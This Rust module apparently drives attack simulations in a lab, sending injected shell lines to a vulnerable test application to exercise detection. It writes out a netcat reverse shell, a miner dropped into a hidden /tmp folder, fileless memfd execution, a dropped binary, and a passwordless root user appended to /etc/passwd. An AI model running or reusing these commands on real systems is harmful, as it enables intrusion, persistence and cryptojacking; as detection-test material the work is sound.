//! What the attacker does: sends commands to the customer's vulnerable application. Every tool is an
//! inert stand-in from the lab, and every connection ends on the container's own loopback.

use crate::http;
use anyhow::Result;
use std::net::Ipv4Addr;

/// Runs one line of shell inside the application at `address`; returns what it printed.
pub async fn inject(address: Ipv4Addr, line: &str) -> Result<String> {
    http::send("POST", &format!("http://{address}:8080/cgi-bin/run"), format!("{line}\n")).await
}

/// Starts DNS (port 53) and a Stratum pool (port 3333) on the container's loopback, and waits until
/// both are open by looking at the socket tables, which no rule minds.
const POOL: &str = "/opt/lab/tasuki-lab pool >/dev/null 2>&1 & POOL=$!; \
    until grep -q ':0D05 .* 0A ' /proc/net/tcp && grep -q '0100007F:0035 ' /proc/net/udp; do /bin/busybox usleep 50000; done; ";

/// A coin miner, dropped into /tmp and started.
pub async fn miner(address: Ipv4Addr) -> Result<String> {
    let drop = "mkdir -p /tmp/.x; cp /opt/lab/tasuki-lab /tmp/.x/xmrig; ";
    let mine = "/tmp/.x/xmrig -o stratum+tcp://pool.example.test:3333 -u wallet --donate-level 1 --seconds 2";
    inject(address, &format!("{POOL}{drop}{mine}; kill $POOL")).await
}

/// A shell whose input and output are a connection.
pub async fn reverse_shell(address: Ipv4Addr) -> Result<String> {
    let listen = "(echo exit | nc -l -p 4444) >/dev/null 2>&1 & until cat /proc/net/tcp /proc/net/tcp6 | grep -q ':115C .* 0A '; do /bin/busybox usleep 50000; done; ";
    inject(address, &format!("{listen}nc 127.0.0.1 4444 -e /bin/sh")).await
}

/// A new program, written and then executed.
pub async fn new_binary(address: Ipv4Addr) -> Result<String> {
    inject(address, "cp /opt/lab/tasuki-lab /tmp/updater; /tmp/updater; true").await
}

/// A program that runs from memory alone.
pub async fn fileless(address: Ipv4Addr) -> Result<String> {
    inject(address, "/opt/lab/tasuki-lab memfd /bin/busybox echo from memory").await
}

/// Adds a user without password, `times` over, each time by a shell that ends at once.
pub async fn user(address: Ipv4Addr, times: usize) -> Result<String> {
    let add = "/bin/busybox sh -c 'echo x:x:0:0::/:/bin/sh >> /etc/passwd'; ";
    inject(address, &add.repeat(times)).await
}
